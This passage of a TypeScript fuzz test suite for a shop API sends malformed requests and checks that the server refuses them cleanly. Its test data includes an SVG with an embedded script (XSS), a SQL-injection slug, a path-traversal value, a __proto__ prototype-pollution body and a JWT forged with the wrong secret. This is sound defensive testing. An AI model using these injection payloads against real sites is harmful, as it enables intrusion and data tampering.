          { kind: 'bad-photo', method: 'POST', url: '/api/v1/shop/banners', token: admin.token, headers: notAnImage.headers, body: notAnImage.payload },
          { kind: 'bad-multipart', method: 'POST', url: '/api/v1/shop/banners', token: admin.token, headers: noImage.headers, body: noImage.payload },
          { kind: idKind, method: 'PUT', url: `/api/v1/shop/banners/${id}`, token: admin.token, headers: noImage.headers, body: noImage.payload },
          { kind: idKind, method: 'DELETE', url: `/api/v1/shop/banners/${id}`, token: admin.token },
          { kind: idKind, method: 'GET', url: `/api/v1/shop/banner-image/${id}` },
        ]);
      },
      // Catalogue writes (multipart).
      async () => {
        const field = pick(['name', 'description', 'price', 'quantity', 'category'] as const);
        let kind: Kind;
        let value: string;
        if (field === 'name' || field === 'description') {
          const max = field === 'name' ? PRODUCT_NAME_MAX : PRODUCT_DESCRIPTION_MAX;
          const [textKind, textValue] = badText(max);
          kind = textKind === 'surrogate' || textKind === 'wrong-type' ? 'nul' : textKind;
          value = typeof textValue === 'string' && textKind !== 'surrogate' ? textValue : 'Broken\u0000';
        } else if (field === 'category') {
          [kind, value] = pick<[Kind, string]>([
            ['bad-id', 'abc'],
            ['bad-id', '2147483648'],
            ['unknown-id', '987654'],
          ]);
        } else {
          [kind, value] = badNumberString();
        }
        const form = await multipart({ ...productFields(), [field]: value });
        const url = next() < 0.5 ? '/api/v1/product/create-product' : `/api/v1/product/update-product/${productId}`;
        return { kind, method: url.includes('create') ? 'POST' : 'PUT', url, token: admin.token, headers: form.headers, body: form.payload };
      },
      async () => {
        const variant = pick(['cut', 'boundary', 'none', 'garbage', 'two-files', 'wrong-field'] as const);
        const form = await multipart(productFields(), { field: 'photo', data: photo, filename: 'p.png', type: 'image/png' });
        const contentType = form.headers['content-type'] ?? '';
        const url = next() < 0.5 ? '/api/v1/product/create-product' : `/api/v1/product/update-product/${productId}`;
        const method = url.includes('create') ? 'POST' : 'PUT';
        const base = { kind: 'bad-multipart' as const, method: method as 'POST' | 'PUT', url, token: admin.token };
        if (variant === 'cut') {
          const cutAt = Math.floor(form.payload.length * (0.2 + next() * 0.75));
          return { ...base, headers: { 'content-type': contentType }, body: form.payload.subarray(0, cutAt) };
        }
        if (variant === 'boundary') return { ...base, headers: { 'content-type': 'multipart/form-data; boundary=wrong' }, body: form.payload };
        if (variant === 'none') return { ...base, headers: { 'content-type': 'multipart/form-data' }, body: form.payload };
        if (variant === 'garbage') return { ...base, headers: { 'content-type': 'multipart/form-data; boundary=zz' }, body: Buffer.from('--zz\r\nnot a header\r\n\r\n--zz--') };
        if (variant === 'two-files') {
          const two = new FormData();
          for (const [key, value] of Object.entries({ ...productFields(), name: 'Two Photos' })) two.append(key, value);
          two.append('photo', new Blob([new Uint8Array(photo)], { type: 'image/png' }), 'a.png');
          two.append('photo', new Blob([new Uint8Array(photo)], { type: 'image/png' }), 'b.png');
          const response = new Response(two);
          return { ...base, headers: { 'content-type': response.headers.get('content-type') ?? '' }, body: Buffer.from(await response.arrayBuffer()) };
        }
        const wrong = await multipart(productFields(), { field: 'avatar', data: photo, filename: 'a.png', type: 'image/png' });
        return { ...base, headers: wrong.headers, body: wrong.payload };
      },
      async () => {
        const data = pick([
          Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'),
          Buffer.concat([photo.subarray(0, 40)]),
          Buffer.from('GIF89a not really'),
          Buffer.alloc(PHOTO_MAX_BYTES + 10, 1),
          Buffer.from('%PDF-1.4 fake'),
        ]);
        const form = await multipart({ ...productFields(), name: 'Bad Photo' }, { field: 'photo', data, filename: 'x.png', type: 'image/png' });
        return { kind: 'bad-photo', method: 'POST', url: '/api/v1/product/create-product', token: admin.token, headers: form.headers, body: form.payload };
      },
      () => {
        const [kind, id] = next() < 0.8 ? badPathId() : (['unknown-id', String(900000 + Math.floor(next() * 1000))] as [Kind, string]);
        return { kind, method: 'DELETE', url: `/api/v1/product/delete-product/${id}`, token: admin.token };
      },
      // Orders.
      () => {
        const [kind, cart] = pick<[Kind, unknown]>([
          ['blank', []],
          ['wrong-type', 'cart'],
          ['wrong-type', [productId]],
          ['bad-id', [{ _id: 'abc' }]],
          ['bad-id', [{ _id: '2147483648' }]],
          ['nul', [{ _id: `${productId}\u0000` }]],
          ['unknown-id', [{ _id: '987654' }]],
          ['too-long', Array.from({ length: MAX_CART_ENTRIES + 1 }, () => ({ _id: productId }))],
          ['big-number', Array.from({ length: 60 }, () => ({ _id: productId }))],
          ['wrong-type', [{}]],
        ]);
        return { kind, method: 'POST', url: '/api/v1/auth/orders', token: shopper.token, body: { cart } };
      },
      () => {
        if (next() < 0.5) {
          const [kind, id] = badPathId();
          return { kind, method: 'PUT', url: `/api/v1/auth/order-status/${id}`, token: admin.token, body: { status: 'Shipped' } };
        }
        const [kind, status] = pick<[Kind, unknown]>([
          ['wrong-type', 'Delivered'],
          ['wrong-type', 3],
          ['nul', 'Shipped\u0000'],
          ['surrogate', '\ud83d'],
          ['blank', ''],
          ['too-long', 'S'.repeat(1000)],
        ]);
        return { kind, method: 'PUT', url: `/api/v1/auth/order-status/${orderId}`, token: admin.token, body: { status } };
      },
      // The admin's orders list and bulk status (issue 20): bad filters, cursors, id lists and statuses.
      () => {
        const which = pick(['list', 'bulk', 'undo'] as const);
        if (which === 'list') {
          const [kind, query] = pick<[Kind, string]>([
            ['bad-id', 'after=abc'],
            ['bad-id', 'before=2147483648'],
            ['bad-id', 'customer=0'],
            ['wrong-type', pick(['status=Shipped', 'payment=free', 'toShip=yes', 'sort=price', 'from=2026-13-01', 'to=tomorrow'])],
            ['nul', 'q=ab%00c'],
            ['control', 'q=a%1Bb'],
            ['surrogate', 'q=%ED%A0%BD'],
            ['too-long', `q=${'q'.repeat(101)}`],
          ]);
          return { kind, method: 'GET', url: `/api/v1/admin/orders?${query}`, token: admin.token };
        }
        const [kind, ids] = pick<[Kind, unknown]>([
          ['blank', []],
          ['bad-id', ['abc']],
          ['bad-id', ['2147483648']],
          ['wrong-type', 'ids'],
          ['wrong-type', [String(orderId), String(orderId)]],
          ['too-long', Array.from({ length: 101 }, (_, index) => String(index + 1))],
        ]);
        const body = which === 'bulk' ? { ids, status: next() < 0.8 ? 'shipped' : 'Shipped' } : { ids };
        return { kind, method: 'POST', url: `/api/v1/admin/orders/${which === 'bulk' ? 'status' : 'status-undo'}`, token: admin.token, body };
      },
      // The admin's products list and bulk changes: bad filters and cursors; bad ids, categories and stock.
      () => {
        if (next() < 0.5) {
          const [kind, query] = pick<[Kind, string]>([
            ['bad-id', pick(['after=abc', 'before=2147483648', 'category=0'])],
            ['wrong-type', pick(['stock=some', 'sort=cheapest'])],
            ['nul', 'q=la%00mp'],
            ['too-long', `q=${'q'.repeat(101)}`],
          ]);
          return { kind, method: 'GET', url: `/api/v1/admin/products?${query}`, token: admin.token };
        }
        const [kind, body] = pick<[Kind, unknown]>([
          ['blank', { ids: [String(productId)] }],
          ['bad-id', { ids: ['abc'], quantity: 1 }],
          ['unknown-id', { ids: [String(productId)], category: '987654' }],
          ['unknown-id', { ids: [String(productId), '987654'], quantity: 1 }],
          ['big-number', { ids: [String(productId)], quantity: 1e12 }],
          ['bad-number', { ids: [String(productId)], quantity: -1 }],
          ['wrong-type', { ids: [String(productId)], quantity: '5' }],
        ]);
        return { kind, method: 'POST', url: '/api/v1/admin/products/bulk', token: admin.token, body };
      },
      // Catalogue imports that must be refused (a dry run of a good file would be a 200: none here).
      async () => {
        const header = 'slug,name,description,price,quantity,category';
        const [kind, csv] = pick<[Kind, string]>([
          ['bad-json', `${header}\n"unclosed,x,1,1,Fuzz Kitchen\n`],
          ['bad-json', 'name,colour\nLamp,red\n'],
          ['bad-json', `${header}\n`],
          ['bad-number', `${header}\n,Lamp,x,${pick(['twelve', '-1', '1.234', ''])},1,Fuzz Kitchen\n`],
          ['big-number', `${header}\n,Lamp,x,${pick(['1e309', '99999999999'])},1,Fuzz Kitchen\n`],
          ['nul', `${header}\n,La\u0000mp,x,1,1,Fuzz Kitchen\n`],
          // Bytes that are not UTF-8: an encoded lone surrogate, or Latin-1 as old spreadsheets save it.
          ['surrogate', `${header}\n,La${pick(['\u00ed\u00a0\u00bd', '\u00e9'])}mp,x,1,1,Fuzz Kitchen\n`],
          ['too-long', `${header}\n,${long(160)},x,1,1,Fuzz Kitchen\n`],
          ['bad-slug', `${header}\n${pick(['UPPER', "x' OR '1'='1", '../a'])},Lamp,x,1,1,Fuzz Kitchen\n`],
          ['unknown-id', `${header}\n,Lamp,x,1,1,No Such Category ${Math.floor(next() * 1e6)}\n`],
        ]);
        const fields: Record<string, string> = { apply: pick(['true', 'false']) };
        if (next() < 0.2) fields.createCategories = pick(['maybe', '1', '']);
        const data = kind === 'surrogate' ? Buffer.from(csv, 'latin1') : Buffer.from(csv);
        const form = await multipart(fields, { field: 'file', data, filename: 'fuzz.csv', type: 'text/csv' });
        return { kind, method: 'POST', url: '/api/v1/admin/products-import', token: admin.token, headers: form.headers, body: form.payload };
      },
      // The owner's reads with bad filters, ids and pages.
      () => {
        const [kind, query] = pick<[Kind, string]>([
          ['bad-number', `/api/v1/admin/orders.csv?from=${pick(['yesterday', '2025-13-01', '2025-02-30', '1'])}`],
          ['bad-number', '/api/v1/admin/orders.csv?from=2025-02-01&to=2025-01-01'],
          ['wrong-type', `/api/v1/admin/audit?kind=${pick(['products', 'ALL', '%00', ''])}`],
          ['bad-id', `/api/v1/admin/audit?actor=${pick(['-1', 'abc', '1.5', '2147483648'])}`],
          ['bad-page', `/api/v1/admin/audit?page=${badPage()[1]}`],
          ['bad-page', `/api/v1/auth/mails?page=${badPage()[1]}`],
          ['wrong-type', `/api/v1/auth/mails?status=${pick(['lost', 'SENT', '%00'])}`],
          ['wrong-type', `/api/v1/auth/mails?sort=${pick(['biggest', 'NEWEST', '%00', ''])}`],
          ['too-long', `/api/v1/auth/mails?q=${'m'.repeat(101)}`],
          ['bad-id', `/api/v1/auth/mails/${badPathId()[1]}`],
          ['bad-id', `/api/v1/auth/order/${badPathId()[1]}`],
          ['bad-id', `/api/v1/product/admin-product/${badPathId()[1]}`],
        ]);
        return { kind, method: 'GET', url: query, token: admin.token };
      },
      () => {
        if (next() < 0.5) {
          const [kind, email] = pick<[Kind, unknown]>([...[badText(200)], ['wrong-type', 'not-an-email'], ['blank', '']]);
          return { kind, method: 'POST', url: '/api/v1/auth/reset-link', body: { email } };
        }
        const [kind, token] = pick<[Kind, unknown]>([
          ['unknown-id', 'x'.repeat(43)],
          ['wrong-type', 42],
          ['blank', ''],
          ['nul', 'abc\u0000'],
          ['too-long', long(500)],
        ]);
        return { kind, method: 'POST', url: '/api/v1/auth/reset-password', body: { token, newPassword: pick(['long-enough-1', '', 'x']) } };
      },
      () => {
        const [kind, id] = badPathId();
        return { kind, method: 'POST', url: `/api/v1/auth/mails/${id}/resend`, token: admin.token };
      },
      // The cart kept by the server: bad lines, bad line ids, made-up cookies (nothing is made or removed).
      () => {
        const [kind, body] = pick<[Kind, unknown]>([
          ['blank', {}],
          ['blank', { quantity: 1 }],
          ['bad-id', { variant: 'abc', quantity: 1 }],
          ['bad-id', { product: '2147483648' }],
          ['nul', { variant: `${productId}\u0000` }],
          ['unknown-id', { variant: '987654', quantity: 1 }],
          ['unknown-id', { product: '987654' }],
          ['big-number', { product: productId, quantity: 1e9 }],
          ['bad-number', { product: productId, quantity: pick([-1, 1.5, Number.MAX_SAFE_INTEGER + 2]) }],
          ['wrong-type', { product: productId, quantity: '2' }],
          ['wrong-type', pick([[productId], 'cart', null])],
        ]);
        const cookie = pick([undefined, 'cart_id=guess', `cart_id=${'A'.repeat(43)}`, `cart_id=${'x'.repeat(5_000)}`]);
        return { kind, method: pick(['POST', 'PUT'] as const), url: '/api/v1/cart/lines', token: pick([undefined, shopper.token]), headers: (cookie ? { cookie } : {}) as Record<string, string>, body };
      },
      (): Fuzzed => {
        const [kind, id] = next() < 0.7 ? badPathId() : (['unknown-id', String(900000 + Math.floor(next() * 1000))] as [Kind, string]);
        const cookie = pick([undefined, `cart_id=${'B'.repeat(43)}`, 'cart_id=%00']);
        const request = { token: pick([undefined, shopper.token, badToken()]), headers: (cookie ? { cookie } : {}) as Record<string, string> };
        return next() < 0.8
          ? { kind, method: 'DELETE', url: `/api/v1/cart/lines/${id}`, ...request }
          : { kind: 'bad-token', method: 'DELETE', url: '/api/v1/cart', ...request, token: badToken() };
      },
      // Bodies that are not what a call takes.
      () => ({
        kind: 'bad-json',
        ...pick<{ method: 'POST' | 'PUT'; url: string }>([
          { method: 'POST', url: '/api/v1/auth/register' },
          { method: 'POST', url: '/api/v1/auth/login' },
          { method: 'POST', url: '/api/v1/category/create-category' },
          { method: 'PUT', url: '/api/v1/auth/settings/money' },
          { method: 'POST', url: '/api/v1/auth/orders' },
          { method: 'PUT', url: `/api/v1/auth/order-status/${orderId}` },
        ]),
        token: admin.token,
        headers: { 'content-type': pick(['application/json', 'text/plain', 'application/x-www-form-urlencoded']) },
        body: pick(['{"name":', 'not json', '{"__proto__": {"role": 1}}', '[1,2,3]', JSON.stringify({ a: 'x'.repeat(120_000) })]),
      }),
    ];

    // The words that tell "no such route" from a missing row are still the not-found handler's.
    expect((await call(t.app, 'PUT', '/api/v1/auth/orders')).json().message).toMatch(NO_SUCH_ROUTE);
    const before = await snapshotDatabase(t.database.db);
    const problems: string[] = [];
    const kinds = new Map<Kind, number>();
    const perCall = new Map<CallName, number>();
    let socketRequests = 0;
    for (let n = 0; n < REQUESTS; n++) {
      const request = await pick(generators)();
      kinds.set(request.kind, (kinds.get(request.kind) ?? 0) + 1);
      const name = callOf(request.method, request.url);
      if (name) perCall.set(name, (perCall.get(name) ?? 0) + 1);
      const socket = request.socket === true || next() < OVER_SOCKET;
      let res: Answer;
      if (socket) {
        socketRequests += 1;
        res = await overSocket(request);
      } else {
        res = await call(t.app, request.method, request.url, { token: request.token, headers: request.headers, body: request.body });
      }
      const describe = () =>
        `#${n} ${request.kind}${socket ? ' (socket)' : ''} ${request.method} ${request.url.slice(0, 80)} -> ${res.statusCode} ${res.body.slice(0, 120)}`;
      const json = () => (res.headers['content-type']?.toString().includes('json') ? (JSON.parse(res.body) as { success?: boolean; message?: string }) : undefined);
      if (!name) problems.push(`reaches no call of the table (generator bug): ${describe()}`);
      if (request.abortAfter !== undefined) continue; // the client went away: no answer to read
      if (res.statusCode >= 500) problems.push(describe());
      else if (request.expect !== undefined && res.statusCode !== request.expect) problems.push(`expected ${request.expect}: ${describe()}`);
      else if (res.statusCode === 404 && NO_SUCH_ROUTE.test(json()?.message ?? '')) problems.push(`no such route (generator bug): ${describe()}`);
      else if (!(name && readCalls.has(name)) && res.statusCode < 400) problems.push(`accepted: ${describe()}`);
      else if (res.statusCode >= 400 && json() && json()?.success !== false) problems.push(`error shape: ${describe()}`);
    }
    expect(problems).toEqual([]);
    // The server still answers after the clients that went away mid-body.
    expect((await overSocket({ kind: 'pre-router', method: 'GET', url: '/readyz' })).statusCode).toBe(200);
    // Nothing changed but the counts of discount codes guessed (a code that does not exist is a failed guess,
    // counted per client like a wrong password: src/server/modules/discount/guesses.ts).
    expect(withoutFailedAttempts(await snapshotDatabase(t.database.db))).toEqual(withoutFailedAttempts(before));
    // Every class of bad input was sent, many times.
    for (const kind of ['nul', 'surrogate', 'control', 'too-long', 'big-number', 'bad-page', 'bad-slug', 'bad-multipart', 'bad-json', 'bad-id', 'bad-url', 'padded', 'formula', 'line-feed', 'pre-router'] as const) {
      expect(kinds.get(kind) ?? 0, kind).toBeGreaterThanOrEqual(10);
    }
    // Every call of the table was reached, many times, and about a quarter of the requests went over the socket.
    const thin = callList.map(([callName]) => callName).filter((callName) => (perCall.get(callName) ?? 0) < MIN_PER_CALL);
    expect(thin.map((callName) => `${callName}: ${perCall.get(callName) ?? 0}`)).toEqual([]);
    expect(socketRequests).toBeGreaterThan(REQUESTS * 0.2);
  });

  it("an address over Node's 16 kB header limit answers 431 in the usual shape and closes the connection", async () => {
    const res = await overSocket({ kind: 'padded', method: 'GET', url: `/api/v1/product/product-count?pad=${'p'.repeat(16 * 1024)}` });
    expect(res.statusCode).toBe(431);
    expect(res.headers.connection).toBe('close');
    expect(JSON.parse(res.body)).toEqual({ success: false, message: 'The request headers (or its address) are too large' });
    // The kept-alive connection is not used again: the next request is answered.
    expect((await overSocket({ kind: 'padded', method: 'GET', url: '/api/v1/product/product-count' })).statusCode).toBe(200);
  });

  it('a token signed with another secret or algorithm is refused, never trusted', async () => {
    const forged = await new SignJWT({})
      .setProtectedHeader({ alg: 'HS256' })
      .setSubject(String(admin.id))
      .setIssuer('emporium')
      .setExpirationTime('1h')
      .sign(new TextEncoder().encode('a-secret-that-is-not-the-shops-secret-at-all'));
    const res = await call(t.app, 'GET', '/api/v1/auth/admin-auth', { token: forged });
    expect(res.statusCode).toBe(401);
  });
});
